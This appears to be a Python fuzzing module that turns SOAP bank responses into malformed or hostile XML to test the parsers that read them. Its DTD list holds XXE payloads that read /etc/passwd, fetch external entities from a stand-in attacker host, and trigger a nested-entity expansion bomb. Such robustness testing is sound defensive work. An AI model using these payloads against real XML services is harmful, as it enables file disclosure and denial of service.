"""XML that bites, lies or breaks: what both SOAP banks may be made to answer."""

import re
from random import Random

from .lettres import abimes, tordu

_RIRES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DTD = (
    "<!DOCTYPE x>",
    '<!DOCTYPE x SYSTEM "http://mechant.exemple.fr/x.dtd">',
    '<!DOCTYPE x [<!ENTITY e "4590">]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://mechant.exemple.fr/p"> %p;]>',
    f'<!DOCTYPE x [<!ENTITY l0 "ha">{_RIRES}<!ENTITY e "&l9;">]>',
    '<!DOCTYPE x [<!ATTLIST x a CDATA "b">]>',
)
_CODAGES = ("UTF-16", "UTF-32", "ISO-8859-1", "UTF-7", "x-klingon", "EBCDIC-CP-FR", "")
# A text between two tags.
_TEXTE = re.compile(r">([^<>]+)<")
_ESPACE = re.compile(r'"(http://[^"]+)"')


def echapper(texte: str) -> str:
    """As a text of an XML document, as far as one can hold it."""
    permis = "".join(c for c in texte if c in "\t\n\r" or c >= " ")
    return permis.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def textes_tordus(rng: Random, corps: str, fois: int) -> str:
    """Other texts in some of its elements."""
    for _ in range(fois):
        trouves = list(_TEXTE.finditer(corps))
        if trouves:
            lu = rng.choice(trouves)
            autre = echapper(tordu(rng, lu[1]))
            corps = f"{corps[: lu.start(1)]}{autre}{corps[lu.end(1) :]}"
    return corps


def avec_dtd(rng: Random, corps: str) -> bytes:
    lu = rng.choice(list(_TEXTE.finditer(corps)))
    entite = rng.choice((lu[1], "&e;"))
    return f"{rng.choice(DTD)}{corps[: lu.start(1)]}{entite}{corps[lu.end(1) :]}".encode()


def autres_espaces(rng: Random, corps: str) -> bytes:
    espace = rng.choice(sorted(set(_ESPACE.findall(corps))))
    return corps.replace(espace, rng.choice((espace + "/", espace.upper(), "urn:x", ""))).encode()


def autre_codage(rng: Random, corps: str) -> bytes:
    declare = f'<?xml version="1.0" encoding="{rng.choice(_CODAGES)}"?>{corps}'
    return declare.encode(rng.choice(("utf-8", "utf-16", "utf-32", "latin-1", "utf-7")), "replace")


def demesure(rng: Random, corps: str) -> bytes:
    """Long, deep or wide."""
    match rng.randrange(4):
        case 0:
            return corps.replace("><", f">{' ' * 300_000}<", 1).encode()
        case 1:
            return f"{'<a>' * 20_000}{corps}{'</a>' * 20_000}".encode()
        case 2:
            return corps.replace(">", f" a='{'x' * 100_000}'>", 1).encode()
        case _:
            return f"<a>{corps * 20}</a>".encode()


def deplace(rng: Random, corps: str) -> bytes:
    """The answer deeper, doubled, beside a comment, in CDATA."""
    lu = rng.choice(list(_TEXTE.finditer(corps)))
    autre = rng.choice(
        (
            f"<![CDATA[{lu[1]}]]>",
            f"{lu[1][:1]}<!-- -->{lu[1][1:]}",
            f"<?x y?>{lu[1]}",
            f"<x>{lu[1]}</x>",
            f"&#{ord(lu[1][0])};{echapper(lu[1][1:])}",
            f"&inconnue;{lu[1]}",
            f"{lu[1]}&#0;",
            f" {lu[1]} ",
        )
    )
    return f"{corps[: lu.start(1)]}{autre}{corps[lu.end(1) :]}".encode("utf-8", "replace")


def retire(rng: Random, corps: str) -> bytes:
    """One element gone, or there twice with another text."""
    elements = list(re.finditer(r"<([\w:]+)>[^<>]*</\1>", corps))
    if not elements:
        return corps.encode()
    lu = rng.choice(elements)
    if rng.random() < 0.5:
        return (corps[: lu.start()] + corps[lu.end() :]).encode()
    double = textes_tordus(rng, lu[0], 1)
    paire = rng.choice((double + lu[0], lu[0] + double))
    return (corps[: lu.start()] + paire + corps[lu.end() :]).encode("utf-8", "replace")


PAS_DE_REPONSE = (
    *(b"", b"ok", b"<html><body>00000 ACCEPTED</body></html>", b'{"code":"00000"}', b"\x00" * 99),
    *(b"<a/>", b"<?xml version='1.0'?>", b"x" * 300_000, b"\xff\xfe<\x00a\x00"),
)
GESTES = (avec_dtd, autres_espaces, autre_codage, demesure, deplace, retire)


def hostile(rng: Random, corps: str) -> bytes:
    """This answer, made hostile in one way or another."""
    tire = rng.random()
    if tire < 0.4:
        return textes_tordus(rng, corps, rng.choice((1, 1, 2, 3))).encode("utf-8", "replace")
    if tire < 0.9:
        return rng.choice(GESTES)(rng, corps)
    return abimes(rng, corps.encode()) if tire < 0.97 else rng.choice(PAS_DE_REPONSE)


def change(corps: str, avant: str, apres: str) -> bytes:
    """The answer with this in place of that, which must be there."""
    assert avant in corps, avant
    return corps.replace(avant, apres).encode()


def a_une_dtd(brut: bytes) -> bool:
    return b"<!DOCTYPE" in brut
